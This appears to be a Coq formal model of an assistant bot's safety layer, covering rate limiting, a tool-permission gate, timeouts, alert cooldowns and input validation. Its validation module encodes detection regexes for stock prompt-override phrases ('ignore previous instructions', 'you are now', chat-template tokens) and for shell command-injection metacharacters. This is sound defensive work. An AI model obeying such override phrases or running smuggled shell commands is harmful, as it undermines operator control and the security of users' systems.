(** * Request-admission and tool-execution safety layer

    A shallow embedding of the admission controller (token buckets), the
    permission gate, the bounded executor, the content gate and the alert
    cooldown of the assistant, with the properties of the design document
    stated and settled against the code. *)

From Stdlib Require Import ZArith NArith QArith Qround Qminmax Lqa Lia List Bool Ascii String.
From stdpp Require Import gmap strings list pretty.

Local Open Scope Z_scope.

(* ===================================================================== *)
(** ** Admission controller: [rate-limit.middleware.ts]                   *)
(* ===================================================================== *)

(** JavaScript numbers are modelled exactly: clock readings ([Date.now()],
    integral milliseconds) as [Z], token counts and rates as rationals [Q].
    Rounding of binary64 arithmetic is not modelled. *)

Module RateLimit.

(** [class TokenBucket]: two constructor parameters, two private fields. *)
Record TokenBucket := mkBucket {
  capacity : Q;
  refillRate : Q;          (* tokens per second *)
  tokens : Q;
  lastRefill : Z
}.

(** [constructor(capacity, refillRate)]; [now] is the [Date.now()] read there. *)
Definition newTokenBucket (cap rate : Q) (now : Z) : TokenBucket :=
  {| capacity := cap; refillRate := rate; tokens := cap; lastRefill := now |}.

(** [private refill()]. *)
Definition refill (now : Z) (b : TokenBucket) : TokenBucket :=
  let elapsedSeconds := (inject_Z (now - lastRefill b) / 1000)%Q in
  let tokensToAdd := (elapsedSeconds * refillRate b)%Q in
  {| capacity := capacity b;
     refillRate := refillRate b;
     tokens := Qmin (capacity b) (tokens b + tokensToAdd)%Q;
     lastRefill := now |}.

Record ConsumeResult := mkResult {
  allowed : bool;
  retryAfterSeconds : Z
}.

(** [tryConsume()]. *)
Definition tryConsume (now : Z) (b : TokenBucket) : ConsumeResult * TokenBucket :=
  let b1 := refill now b in
  if Qle_bool 1 (tokens b1) then
    ({| allowed := true; retryAfterSeconds := 0 |},
     {| capacity := capacity b1; refillRate := refillRate b1;
        tokens := (tokens b1 - 1)%Q; lastRefill := lastRefill b1 |})
  else
    let tokensNeeded := (1 - tokens b1)%Q in
    let secondsUntilAvailable := Qceiling (tokensNeeded / refillRate b1) in
    ({| allowed := false; retryAfterSeconds := secondsUntilAvailable |}, b1).

(** [getTokens()]: refills, then reads. *)
Definition getTokens (now : Z) (b : TokenBucket) : Q * TokenBucket :=
  let b1 := refill now b in (tokens b1, b1).

(** The operations a bucket offers, each with the clock reading it makes. *)
Inductive BucketOp :=
| OpRefill (now : Z)
| OpConsume (now : Z).

Definition opTime (o : BucketOp) : Z :=
  match o with OpRefill t => t | OpConsume t => t end.

Definition applyOp (b : TokenBucket) (o : BucketOp) : TokenBucket :=
  match o with
  | OpRefill now => snd (getTokens now b)
  | OpConsume now => snd (tryConsume now b)
  end.

Definition runOps (ops : list BucketOp) (b : TokenBucket) : TokenBucket :=
  fold_left applyOp ops b.

(** A clock that never goes backwards: every reading is at least the
    previous one, starting from [t0]. *)
Fixpoint nondecreasing (t0 : Z) (ts : list Z) : Prop :=
  match ts with
  | [] => True
  | t :: ts' => t0 <= t /\ nondecreasing t ts'
  end.

(** A run of admission attempts on one bucket. *)
Fixpoint attempts (ts : list Z) (b : TokenBucket) : list ConsumeResult * TokenBucket :=
  match ts with
  | [] => ([], b)
  | t :: ts' =>
      let '(r, b1) := tryConsume t b in
      let '(rs, b2) := attempts ts' b1 in
      (r :: rs, b2)
  end.

(** The two shapes of a [tryConsume] result. *)
Definition allowedResult : ConsumeResult := mkResult true 0.

Definition rejectedResult (b : TokenBucket) : ConsumeResult :=
  mkResult false (Qceiling ((1 - tokens b) / refillRate b)).

(** Thirty-one attempts 1.9 seconds apart: a window of 57 seconds. *)
Definition slowBurst : list Z :=
  map (fun k => 1900 * Z.of_nat k) (seq 0 31).

(** [RATE_LIMITS]. *)
Definition USER_CAPACITY : Q := 30.
Definition USER_REFILL_RATE : Q := 0.5.
Definition USER_BURST : Q := 5.
Definition GLOBAL_CAPACITY : Q := 100.
Definition GLOBAL_REFILL_RATE : Q := 1.67.

(** Module state: [globalBucket] and the [userBuckets] map.  The map holds
    bucket objects that [tryConsume] mutates in place; here the updated
    bucket is written back under its key. *)
Record State := mkState {
  globalBucket : TokenBucket;
  userBuckets : gmap Z TokenBucket
}.

(** State once the module is loaded at clock reading [t0]. *)
Definition initialState (t0 : Z) : State :=
  {| globalBucket := newTokenBucket GLOBAL_CAPACITY GLOBAL_REFILL_RATE t0;
     userBuckets := ∅ |}.

(** The [Date.now()] readings one run of the middleware can make, in
    program order. *)
Record Clock := mkClock {
  tGlobal : Z;      (* globalBucket.tryConsume() *)
  tCreate : Z;      (* new TokenBucket(...) in getUserBucket *)
  tUser : Z;        (* userBucket.tryConsume() *)
  tLogUser : Z;     (* userBucket.getTokens() in the debug record *)
  tLogGlobal : Z    (* globalBucket.getTokens() in the debug record *)
}.

Definition constClock (t : Z) : Clock := mkClock t t t t t.

(** [getUserBucket(userId)]. *)
Definition getUserBucket (now : Z) (userId : Z) (m : gmap Z TokenBucket)
  : TokenBucket * gmap Z TokenBucket :=
  match m !! userId with
  | Some bucket => (bucket, m)
  | None =>
      let bucket := newTokenBucket USER_CAPACITY USER_REFILL_RATE now in
      (bucket, <[userId := bucket]> m)
  end.

Inductive Scope := ScopeGlobal | ScopeUser.

(** What the middleware did with the update: passed it on without a check
    (no user id), rejected it with the audited scope and delay, or admitted
    it. *)
Inductive Outcome :=
| Skipped
| Rejected (scope : Scope) (retryAfter : Z)
| PassedOn.

(** [rateLimitMiddleware(ctx, next)]; [userId] is [ctx.from?.id], and
    [!userId] holds for [undefined] and for [0].  The outcome is the
    decision taken on the buckets; the audit record, the counter and the
    reply that follow a rejection do not touch them. *)
Definition rateLimitMiddleware (clk : Clock) (userId : option Z) (st : State)
  : Outcome * State :=
  match userId with
  | None => (Skipped, st)
  | Some 0 => (Skipped, st)
  | Some uid =>
      let '(globalResult, g1) := tryConsume (tGlobal clk) (globalBucket st) in
      if negb (allowed globalResult) then
        (Rejected ScopeGlobal (retryAfterSeconds globalResult),
         {| globalBucket := g1; userBuckets := userBuckets st |})
      else
        let '(userBucket, m1) := getUserBucket (tCreate clk) uid (userBuckets st) in
        let '(userResult, u1) := tryConsume (tUser clk) userBucket in
        if negb (allowed userResult) then
          (Rejected ScopeUser (retryAfterSeconds userResult),
           {| globalBucket := g1; userBuckets := <[uid := u1]> m1 |})
        else
          let '(_, u2) := getTokens (tLogUser clk) u1 in
          let '(_, g2) := getTokens (tLogGlobal clk) g1 in
          (PassedOn, {| globalBucket := g2; userBuckets := <[uid := u2]> m1 |})
  end.

(** A caller sending one update after another. *)
Fixpoint sendAll (reqs : list (Clock * option Z)) (st : State) : list Outcome * State :=
  match reqs with
  | [] => ([], st)
  | (clk, uid) :: reqs' =>
      let '(o, st1) := rateLimitMiddleware clk uid st in
      let '(os, st2) := sendAll reqs' st1 in
      (o :: os, st2)
  end.

End RateLimit.

(* ===================================================================== *)
(** ** Permission gate: [tool-permission.service.ts]                      *)
(* ===================================================================== *)

Module ToolPermission.

(** A row of [tool_permissions], keyed by the unique pair
    [(telegram_user_id, tool_name)]; nullable columns are options and
    timestamps are clock readings. *)
Record PermissionRow := mkRow {
  is_allowed : option bool;
  granted_at : option Z;
  granted_by : option Z;
  revoked_at : option Z;
  revoked_by : option Z;
  notes : option string
}.

(** How the store answers one request: it serves it ([error] is [null]),
    answers with an [error] object, or the client call throws. *)
Inductive StoreReply :=
| Served
| Failed (message : string)
| Threw (message : string).

(** Completion of a function body: a returned value or a thrown exception. *)
Inductive Completion (A : Type) :=
| Normal (a : A)
| Abrupt (message : string).
Arguments Normal {A} a.
Arguments Abrupt {A} message.

(** What a run did besides returning. *)
Inductive Event :=
| CacheHit (allowed : bool)
| StoreQuery
| StoreWrite
| CacheWrite (allowed : bool)
| CacheInvalidate
| LoggedError (message : string).

(** The two module-level maps and the table behind the store client. *)
Record World := mkWorld {
  permissionCache : gmap string bool;
  cacheTimestamps : gmap string Z;
  tool_permissions : gmap (Z * string) PermissionRow
}.

Definition CACHE_TTL_MS : Z := 60000.

(** [`${userId}:${toolName}`]. *)
Definition cacheKey (userId : Z) (toolName : string) : string :=
  pretty userId +:+ ":" +:+ toolName.

(** The cache test of [checkToolPermission]: a value is present, its
    timestamp is present and truthy (not [0]), and it is younger than the
    TTL at [now]. *)
Definition cacheLookup (now : Z) (key : string) (w : World) : option bool :=
  match permissionCache w !! key, cacheTimestamps w !! key with
  | Some cachedValue, Some cachedTime =>
      if negb (cachedTime =? 0) && (now - cachedTime <? CACHE_TTL_MS)
      then Some cachedValue else None
  | _, _ => None
  end.

(** [!!(data && data.is_allowed === true && data.revoked_at === null)]. *)
Definition rowGrants (data : option PermissionRow) : bool :=
  match data with
  | Some row =>
      match is_allowed row, revoked_at row with
      | Some true, None => true
      | _, _ => false
      end
  | None => false
  end.

(** The [try] block of [checkToolPermission].  [tCheck] is the clock
    reading of the cache test, [tStore] the one stored with a new entry. *)
Definition checkBody (tCheck tStore : Z) (reply : StoreReply)
    (userId : Z) (toolName : string) (w : World)
  : Completion bool * World * list Event :=
  let key := cacheKey userId toolName in
  match cacheLookup tCheck key w with
  | Some cachedValue => (Normal cachedValue, w, [CacheHit cachedValue])
  | None =>
      match reply with
      | Threw e => (Abrupt e, w, [StoreQuery])
      | Failed e => (Normal false, w, [StoreQuery; LoggedError e])
      | Served =>
          let data := tool_permissions w !! (userId, toolName) in
          let isAllowed := rowGrants data in
          (Normal isAllowed,
           {| permissionCache := <[key := isAllowed]> (permissionCache w);
              cacheTimestamps := <[key := tStore]> (cacheTimestamps w);
              tool_permissions := tool_permissions w |},
           [StoreQuery; CacheWrite isAllowed])
      end
  end.

(** [checkToolPermission]: the body under its [catch], which logs and
    returns [false]. *)
Definition checkToolPermission (tCheck tStore : Z) (reply : StoreReply)
    (userId : Z) (toolName : string) (w : World)
  : Completion bool * World * list Event :=
  match checkBody tCheck tStore reply userId toolName w with
  | (Abrupt e, w', evs) => (Normal false, w', evs ++ [LoggedError e])
  | done => done
  end.

Definition invalidate (key : string) (w : World) : World :=
  {| permissionCache := delete key (permissionCache w);
     cacheTimestamps := delete key (cacheTimestamps w);
     tool_permissions := tool_permissions w |}.

(** The [upsert] of [grantToolPermission] on conflict target
    [(telegram_user_id, tool_name)].  Arguments left [undefined] are not
    part of the request: a new row gets the column default, an existing
    row keeps its value. *)
Definition upsertGrant (now : Z) (grantedBy : option Z) (note : option string)
    (old : option PermissionRow) : PermissionRow :=
  {| is_allowed := Some true;
     granted_at := Some now;
     granted_by := match grantedBy with
                   | Some g => Some g
                   | None => old ≫= granted_by
                   end;
     revoked_at := None;
     revoked_by := None;
     notes := match note with
              | Some n => Some n
              | None => old ≫= notes
              end |}.

(** [grantToolPermission]; a request the store does not serve leaves the
    table as it is. *)
Definition grantToolPermission (now : Z) (reply : StoreReply)
    (userId : Z) (toolName : string) (grantedBy : option Z) (note : option string)
    (w : World) : bool * World * list Event :=
  match reply with
  | Threw e => (false, w, [StoreWrite; LoggedError e])
  | Failed e => (false, w, [StoreWrite; LoggedError e])
  | Served =>
      let k := (userId, toolName) in
      let w1 :=
        {| permissionCache := permissionCache w;
           cacheTimestamps := cacheTimestamps w;
           tool_permissions :=
             <[k := upsertGrant now grantedBy note (tool_permissions w !! k)]>
               (tool_permissions w) |} in
      (true, invalidate (cacheKey userId toolName) w1, [StoreWrite; CacheInvalidate])
  end.

(** The [update] of [revokeToolPermission] on the rows matching both
    [eq] filters. *)
Definition updateRevoke (now : Z) (revokedBy : option Z) (row : PermissionRow)
  : PermissionRow :=
  {| is_allowed := Some false;
     granted_at := granted_at row;
     granted_by := granted_by row;
     revoked_at := Some now;
     revoked_by := match revokedBy with
                   | Some r => Some r
                   | None => revoked_by row
                   end;
     notes := notes row |}.

(** [revokeToolPermission]. *)
Definition revokeToolPermission (now : Z) (reply : StoreReply)
    (userId : Z) (toolName : string) (revokedBy : option Z)
    (w : World) : bool * World * list Event :=
  match reply with
  | Threw e => (false, w, [StoreWrite; LoggedError e])
  | Failed e => (false, w, [StoreWrite; LoggedError e])
  | Served =>
      let k := (userId, toolName) in
      let w1 :=
        {| permissionCache := permissionCache w;
           cacheTimestamps := cacheTimestamps w;
           tool_permissions := alter (updateRevoke now revokedBy) k (tool_permissions w) |} in
      (true, invalidate (cacheKey userId toolName) w1, [StoreWrite; CacheInvalidate])
  end.

Definition queryFailed (reply : StoreReply) : Prop :=
  match reply with Served => False | _ => True end.

Definition isStoreQuery (e : Event) : bool :=
  match e with StoreQuery => true | _ => false end.

(** Whether a run sent the allowlist query to the store. *)
Definition askedStore (evs : list Event) : bool := existsb isStoreQuery evs.

Definition emptyWorld : World := mkWorld ∅ ∅ ∅.

(** A world whose only cache entry, an allow for caller 42 and tool
    [calendar_list], was written at clock reading 1. *)
Definition staleWorld : World :=
  mkWorld {[cacheKey 42 "calendar_list" := true]}
          {[cacheKey 42 "calendar_list" := 1]} ∅.

Definition returned {A} (r : Completion bool * World * A) : Completion bool := r.1.1.
Definition worldAfter {A} (r : Completion bool * World * A) : World := r.1.2.
Definition eventsOf {A B} (r : A * B * list Event) : list Event := r.2.

End ToolPermission.

(* ===================================================================== *)
(** ** Bounded executor: [timeout.util.ts]                                *)
(* ===================================================================== *)

(** The event loop is modelled on a logical clock that counts the
    milliseconds since [executeWithTimeout] was called.  [setTimeout] is
    taken by its contract: the callback runs [timeoutMs] ticks after the
    call unless [clearTimeout] came first.  When the operation settles on
    the very tick of the timer, the order of the two events is left to the
    loop ([opFirstOnTie]). *)

Module Timeout.

(** Thrown values: the [TimeoutError] class, or anything else. *)
Inductive Failure :=
| TimeoutError (message : string) (timeoutMs : N)
| OtherError (message : string).

Inductive Settlement (T : Type) :=
| Fulfilled (value : T)
| Rejected (reason : Failure).
Arguments Fulfilled {T} value.
Arguments Rejected {T} reason.

(** The promise handed to [executeWithTimeout]. *)
Inductive Operation (T : Type) :=
| SettlesAt (tick : N) (outcome : Settlement T)
| NeverSettles.
Arguments SettlesAt {T} tick outcome.
Arguments NeverSettles {T}.

Inductive LoopEvent (T : Type) :=
| OperationSettled (outcome : Settlement T)
| TimerCallback.
Arguments OperationSettled {T} outcome.
Arguments TimerCallback {T}.

(** State of one call: the promise of [Promise.race], the timer behind
    [timeoutId], and the promise the [async] function returned. *)
Record Run (T : Type) := mkRun {
  raced : option (Settlement T);
  timerPending : bool;
  timerRan : bool;
  result : option (Settlement T)
}.
Arguments mkRun {T} raced timerPending timerRan result.
Arguments raced {T} r.
Arguments timerPending {T} r.
Arguments timerRan {T} r.
Arguments result {T} r.

(** After the synchronous part of the call: timer armed, race pending. *)
Definition started {T} : Run T :=
  mkRun None true false None.

(** [new TimeoutError(`${errorMessage} (${timeoutMs}ms)`, timeoutMs)]. *)
Definition timeoutFailure (errorMessage : string) (timeoutMs : N) : Failure :=
  TimeoutError (errorMessage +:+ " (" +:+ pretty timeoutMs +:+ "ms)") timeoutMs.

(** A settlement reaching the race: the first one settles it and resumes
    the function after its [await], where both the [try] and the [catch]
    path call [clearTimeout] and pass the settlement on; later ones are
    ignored. *)
Definition settleRace {T} (s : Settlement T) (r : Run T) : Run T :=
  match raced r with
  | Some _ => r
  | None => mkRun (Some s) false (timerRan r) (Some s)
  end.

Definition step {T} (errorMessage : string) (timeoutMs : N)
    (r : Run T) (ev : LoopEvent T) : Run T :=
  match ev with
  | OperationSettled s => settleRace s r
  | TimerCallback =>
      if timerPending r then
        settleRace (Rejected (timeoutFailure errorMessage timeoutMs))
          (mkRun (raced r) false true (result r))
      else r
  end.

(** The events of one call in the order the loop delivers them. *)
Definition schedule {T} (op : Operation T) (timeoutMs : N) (opFirstOnTie : bool)
  : list (LoopEvent T) :=
  match op with
  | NeverSettles => [TimerCallback]
  | SettlesAt tick s =>
      if (tick <? timeoutMs)%N then [OperationSettled s; TimerCallback]
      else if (timeoutMs <? tick)%N then [TimerCallback; OperationSettled s]
      else if opFirstOnTie then [OperationSettled s; TimerCallback]
      else [TimerCallback; OperationSettled s]
  end.

(** [executeWithTimeout(promise, timeoutMs, errorMessage)]. *)
Definition executeWithTimeout {T} (op : Operation T) (timeoutMs : N)
    (errorMessage : string) (opFirstOnTie : bool) : Run T :=
  fold_left (step errorMessage timeoutMs) (schedule op timeoutMs opFirstOnTie) started.

Definition DEFAULT_TIMEOUT_MESSAGE : string := "Operation timed out".

End Timeout.

(* ===================================================================== *)
(** ** Alert cooldown: [monitoring.service.ts]                            *)
(* ===================================================================== *)

Module Monitoring.

Definition ALERT_COOLDOWN_MS : Z := 5 * 60 * 1000.

Inductive Severity := SevInfo | SevWarning | SevError | SevCritical.

(** [AuditEventType] of the audit repository. *)
Inductive AuditEventType :=
| auth_success | auth_failure | message_received | message_sent
| tool_execution | tool_timeout | tool_error | rate_limit_exceeded
| validation_failure | permission_denied | error.

Definition severityUpper (s : Severity) : string :=
  match s with
  | SevInfo => "INFO" | SevWarning => "WARNING"
  | SevError => "ERROR" | SevCritical => "CRITICAL"
  end.

(** What [triggerAlert] does besides updating the cooldown map: a
    [logger.warn] line and a call of [auditLog]. *)
Inductive Effect :=
| LogWarn (line : string) (data : list (string * Q))
| AuditLog (eventType : AuditEventType) (telegramUserId : option Z)
    (alertType message : string) (data : list (string * Q)) (severity : Severity).

(** One call of [triggerAlert] with the clock reading it makes; [data] is
    the record of computed figures. *)
Record AlertCall := mkCall {
  alertType : string;
  severity : Severity;
  message : string;
  data : list (string * Q);
  now : Z
}.

(** [`🚨 ALERT [${severity.toUpperCase()}]: ${message}`]. *)
Definition alertLine (c : AlertCall) : string :=
  "🚨 ALERT [" +:+ severityUpper (severity c) +:+ "]: " +:+ message c.

(** [lastAlert && now - lastAlert < ALERT_COOLDOWN_MS]: [undefined] and [0]
    are falsy. *)
Definition inCooldown (lastAlert : option Z) (now : Z) : bool :=
  match lastAlert with
  | Some t => negb (t =? 0) && (now - t <? ALERT_COOLDOWN_MS)
  | None => false
  end.

(** [triggerAlert(alertType, severity, message, data)]. *)
Definition triggerAlert (c : AlertCall) (alertCooldowns : gmap string Z)
  : gmap string Z * list Effect :=
  if inCooldown (alertCooldowns !! alertType c) (now c) then
    (alertCooldowns, [])
  else
    (<[alertType c := now c]> alertCooldowns,
     [LogWarn (alertLine c) (data c);
      AuditLog error None (alertType c) (message c) (data c) (severity c)]).

(** A sequence of calls, each paired with what it did. *)
Fixpoint triggerAll (calls : list AlertCall) (alertCooldowns : gmap string Z)
  : list (AlertCall * list Effect) :=
  match calls with
  | [] => []
  | c :: calls' =>
      let '(cd, effs) := triggerAlert c alertCooldowns in
      (c, effs) :: triggerAll calls' cd
  end.

(** A call fired when it did anything at all. *)
Definition fired (r : AlertCall * list Effect) : Prop := r.2 <> [].

(** A fired alert is one log line and one audit record of type [error]. *)
Definition oneAlert (r : AlertCall * list Effect) : Prop :=
  r.2 = [] \/
  r.2 = [LogWarn (alertLine r.1) (data r.1);
         AuditLog error None (alertType r.1) (message r.1) (data r.1) (severity r.1)].

(** Two fired alerts of one type, the second at least a cooldown after the
    first on the clock. *)
Definition separated (r1 r2 : AlertCall * list Effect) : Prop :=
  fired r1 -> fired r2 -> alertType r1.1 = alertType r2.1 ->
  now r1.1 + ALERT_COOLDOWN_MS <= now r2.1.

(** The tool-timeout threshold found breached on two consecutive ticks of
    the 60-second aggregation. *)
Definition breachTwice : list AlertCall :=
  [ mkCall "high_tool_timeouts" SevWarning "7 tool timeouts in the last 5 minutes"
      [("count", 7%Q)] 1700000000000;
    mkCall "high_tool_timeouts" SevWarning "7 tool timeouts in the last 5 minutes"
      [("count", 7%Q)] 1700000060000 ].

End Monitoring.

(* ===================================================================== *)
(** ** Content gate: [input-validation.service.ts]                        *)
(* ===================================================================== *)

(** A JavaScript string is its sequence of UTF-16 code units.  A regular
    expression is a syntax tree with a backtracking matcher that lists the
    possible remainders in the order the engine tries them, so that the
    head of the list is the match the engine reports.  A [RegExp] object
    carries its [lastIndex], which [test] reads and writes when the [g]
    flag is set. *)

Module Validation.

Definition jsString := list N.

(** The code units of an ASCII literal. *)
Definition ofString (s : string) : jsString :=
  map N_of_ascii (String.list_ascii_of_string s).

(** [\s], and the characters [trim] removes: WhiteSpace and LineTerminator. *)
Definition isWhiteSpace (c : N) : bool :=
  ((9 <=? c) && (c <=? 13) || (c =? 32) || (c =? 160) || (c =? 5760)
   || (8192 <=? c) && (c <=? 8202) || (c =? 8232) || (c =? 8233)
   || (c =? 8239) || (c =? 8287) || (c =? 12288) || (c =? 65279))%N.

(** [[a-zA-Z]]. *)
Definition isAsciiLetter (c : N) : bool :=
  ((65 <=? c) && (c <=? 90) || (97 <=? c) && (c <=? 122))%N.

Inductive Regex :=
| Empty
| Lit (c : N)                      (* one given code unit *)
| Class (p : N -> bool)            (* one code unit of a class *)
| Cat (r1 r2 : Regex)
| Alt (r1 r2 : Regex)
| Star (p : N -> bool)             (* greedy [c*] for a class [c] *)
| Opt (r : Regex).                 (* greedy [r?] *)

(** Remainders after [p*], longest match first. *)
Fixpoint starRest (p : N -> bool) (s : jsString) : list jsString :=
  match s with
  | c :: s' => if p c then starRest p s' ++ [s] else [s]
  | [] => [[]]
  end.

(** Remainders after a match of [r] at the head of [s], in priority order. *)
Fixpoint matchRe (r : Regex) (s : jsString) : list jsString :=
  match r with
  | Empty => [s]
  | Lit c => match s with
             | x :: s' => if (x =? c)%N then [s'] else []
             | [] => []
             end
  | Class p => match s with
               | x :: s' => if p x then [s'] else []
               | [] => []
               end
  | Cat r1 r2 => flat_map (matchRe r2) (matchRe r1 s)
  | Alt r1 r2 => matchRe r1 s ++ matchRe r2 s
  | Star p => starRest p s
  | Opt r1 => matchRe r1 s ++ [s]
  end.

(** Leftmost match in [s], the part of the subject from index [i] on:
    the end index of the match. *)
Fixpoint searchFrom (r : Regex) (s : jsString) (i : nat) : option nat :=
  match matchRe r s with
  | rest :: _ => Some (i + (length s - length rest))%nat
  | [] => match s with
          | [] => None
          | _ :: s' => searchFrom r s' (S i)
          end
  end.

Record RegExp := mkRegExp {
  source : Regex;
  global : bool;
  lastIndex : nat
}.

Definition setLastIndex (re : RegExp) (i : nat) : RegExp :=
  mkRegExp (source re) (global re) i.

(** [RegExp.prototype.test]: the search starts at [lastIndex] when the
    regular expression is global, and at 0 otherwise; a global one stores
    the end of the match, or 0 after a failure. *)
Definition test (re : RegExp) (str : jsString) : bool * RegExp :=
  let start := if global re then lastIndex re else 0%nat in
  let found :=
    if (length str <? start)%nat then None
    else searchFrom (source re) (drop start str) start in
  match found with
  | Some e => (true, if global re then setLastIndex re e else re)
  | None => (false, if global re then setLastIndex re 0 else re)
  end.

(** [patterns.some((pattern) => pattern.test(str))]: stops at the first
    pattern that matches. *)
Fixpoint someTest (patterns : list RegExp) (str : jsString) : bool * list RegExp :=
  match patterns with
  | [] => (false, [])
  | re :: rest =>
      let '(b, re') := test re str in
      if b then (true, re' :: rest)
      else let '(b', rest') := someTest rest str in (b', re' :: rest')
  end.

(** Building blocks of the pattern tables. *)
Definition cats (rs : list Regex) : Regex := fold_right Cat Empty rs.

Definition chr (s : string) : N :=
  match ofString s with c :: _ => c | [] => 0%N end.

Definition toLower (c : N) : N := (if (65 <=? c) && (c <=? 90) then c + 32 else c)%N.
Definition toUpper (c : N) : N := (if (97 <=? c) && (c <=? 122) then c - 32 else c)%N.

(** A pattern character under the [i] flag. *)
Definition litI (c : N) : Regex :=
  if isAsciiLetter c
  then Class (fun x => (x =? toLower c) || (x =? toUpper c))%N
  else Lit c.

Definition word (s : string) : Regex := cats (map Lit (ofString s)).
Definition wordI (s : string) : Regex := cats (map litI (ofString s)).

Definition spaces0 : Regex := Star isWhiteSpace.                          (* \s* *)
Definition spaces1 : Regex := Cat (Class isWhiteSpace) (Star isWhiteSpace). (* \s+ *)
Definition letter : Regex := Class isAsciiLetter.
Definition notChr (s : string) : N -> bool := fun x => negb (x =? chr s)%N.

Definition globalRe (r : Regex) : RegExp := mkRegExp r true 0.
Definition plainRe (r : Regex) : RegExp := mkRegExp r false 0.

(** [COMMAND_INJECTION_PATTERNS], all with the [g] flag. *)
Definition COMMAND_INJECTION_PATTERNS : list RegExp :=
  [ globalRe (cats [word "`"; Star (notChr "`"); word "`"]);      (* /`[^`]*`/g *)
    globalRe (cats [word "$("; Star (notChr ")"); word ")"]);     (* /\$\([^)]*\)/g *)
    globalRe (cats [word ";"; spaces0; letter]);                  (* /;\s*[a-zA-Z]/g *)
    globalRe (cats [word "|"; spaces0; letter]);                  (* /\|\s*[a-zA-Z]/g *)
    globalRe (cats [word "&&"; spaces0; letter]);                 (* /&&\s*[a-zA-Z]/g *)
    globalRe (cats [word "||"; spaces0; letter]);                 (* /\|\|\s*[a-zA-Z]/g *)
    globalRe (cats [word ">"; spaces0; word "/"; letter]);        (* />\s*\/[a-zA-Z]/g *)
    globalRe (cats [word "<"; spaces0; word "/"; letter]) ].      (* /<\s*\/[a-zA-Z]/g *)

Definition previousAllPrior : Regex :=
  Alt (wordI "previous") (Alt (wordI "all") (wordI "prior")).
Definition instructionsOpt : Regex := Cat (wordI "instruction") (Opt (litI (chr "s"))).

(** [PROMPT_INJECTION_PATTERNS], all with the [i] flag only. *)
Definition PROMPT_INJECTION_PATTERNS : list RegExp :=
  [ plainRe (cats [wordI "ignore"; spaces1; previousAllPrior; spaces1; instructionsOpt]);
    plainRe (cats [wordI "disregard"; spaces1; previousAllPrior; spaces1; instructionsOpt]);
    plainRe (cats [wordI "forget"; spaces1; previousAllPrior; spaces1; instructionsOpt]);
    plainRe (cats [wordI "new"; spaces1; instructionsOpt; word ":"]);
    plainRe (cats [wordI "system"; spaces1; wordI "prompt"]);
    plainRe (cats [wordI "you"; spaces1; wordI "are"; spaces1; wordI "now"]);
    plainRe (cats [wordI "your"; spaces1; wordI "new"; spaces1;
                   Alt (wordI "role") (Alt instructionsOpt (wordI "task"))]);
    plainRe (wordI "[INST]");
    plainRe (wordI "[/INST]");
    plainRe (wordI "<|im_start|>");
    plainRe (wordI "<|im_end|>") ].

(** The regular-expression objects of the module: they live as long as the
    process and are shared by all calls. *)
Record Patterns := mkPatterns {
  commandPatterns : list RegExp;
  promptPatterns : list RegExp
}.

Definition loadedPatterns : Patterns :=
  mkPatterns COMMAND_INJECTION_PATTERNS PROMPT_INJECTION_PATTERNS.

Definition MAX_MESSAGE_LENGTH : Z := 4000.

(** [DANGEROUS_CHARS]: the null character, twice. *)
Definition DANGEROUS_CHARS : list N := [0%N; 0%N].

Definition includes (str : jsString) (c : N) : bool := existsb (N.eqb c) str.

(** [str.replace(new RegExp(char, 'g'), '')]. *)
Definition removeAll (c : N) (str : jsString) : jsString :=
  filter (fun x => negb (x =? c)%N) str.

(** [String.prototype.trim]. *)
Fixpoint trimStart (str : jsString) : jsString :=
  match str with
  | c :: str' => if isWhiteSpace c then trimStart str' else str
  | [] => []
  end.

Fixpoint trimEnd (str : jsString) : jsString :=
  match str with
  | [] => []
  | c :: str' =>
      match trimEnd str' with
      | [] => if isWhiteSpace c then [] else [c]
      | kept => c :: kept
      end
  end.

Definition trim (str : jsString) : jsString := trimEnd (trimStart str).

Record ValidationResult := mkValidation {
  isValid : bool;
  sanitized : jsString;
  violations : list string
}.

(** [validateUserInput(message, maxLength)], with the pattern objects it
    reads and leaves behind.  No step of the [try] block throws on a
    string, so the [catch] branch is not reached. *)
Definition validateUserInput (message : jsString) (maxLength : Z) (st : Patterns)
  : ValidationResult * Patterns :=
  (* null bytes *)
  let hasDangerous := existsb (includes message) DANGEROUS_CHARS in
  let v1 := if hasDangerous
            then ["Contains null bytes or dangerous characters"] else [] in
  let s1 := if hasDangerous
            then fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS message
            else message in
  (* command injection patterns *)
  let '(commandInjectionFound, cmd') := someTest (commandPatterns st) s1 in
  let v2 := if commandInjectionFound
            then ["Contains potential command injection patterns"] else [] in
  (* prompt injection patterns *)
  let '(promptInjectionFound, prm') := someTest (promptPatterns st) s1 in
  let v3 := if promptInjectionFound
            then ["Contains potential prompt injection patterns"] else [] in
  (* length *)
  let tooLong := (maxLength <? Z.of_nat (length s1))%Z in
  let v4 := if tooLong
            then ["Message exceeds maximum length of " +:+ pretty maxLength
                  +:+ " characters"] else [] in
  let s2 := if tooLong then take (Z.to_nat maxLength) s1 else s1 in
  (* trim, emptiness *)
  let s3 := trim s2 in
  let v5 := if (length s3 =? 0)%nat
            then ["Message is empty after sanitization"] else [] in
  let violations := v1 ++ v2 ++ v3 ++ v4 ++ v5 in
  (mkValidation (length violations =? 0)%nat s3 violations,
   mkPatterns cmd' prm').

(** The text part of [validateUserInput] on its own: what the function
    does to [sanitized], without the pattern tests. *)
Definition sanitizeOnly (message : jsString) (maxLength : Z) : jsString :=
  let s1 := if existsb (includes message) DANGEROUS_CHARS
            then fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS message
            else message in
  let s2 := if (maxLength <? Z.of_nat (length s1))%Z
            then take (Z.to_nat maxLength) s1 else s1 in
  trim s2.

End Validation.

(* ===================================================================== *)
(** ** Admission controller: housekeeping exports                         *)
(* ===================================================================== *)

Module RateLimitAdmin.
Import RateLimit.

(** [cleanupOldBuckets()]: only warns, above 1000 buckets; the map is left
    as it is.  The second component is the count put in the warning. *)
Definition cleanupOldBuckets (st : State) : State * option nat :=
  let currentSize := size (userBuckets st) in
  (st, if (1000 <? currentSize)%nat then Some currentSize else None).

(** [RATE_LIMITS]: the two parameter pairs the module builds buckets
    with. *)
Definition configured (b : TokenBucket) : Prop :=
  (capacity b = USER_CAPACITY /\ refillRate b = USER_REFILL_RATE) \/
  (capacity b = GLOBAL_CAPACITY /\ refillRate b = GLOBAL_REFILL_RATE).

Record RateLimitStats := mkStats {
  userBucketCount : nat;
  globalTokens : Q
}.

(** [getRateLimitStats()]: reading the global count refills the global
    bucket. *)
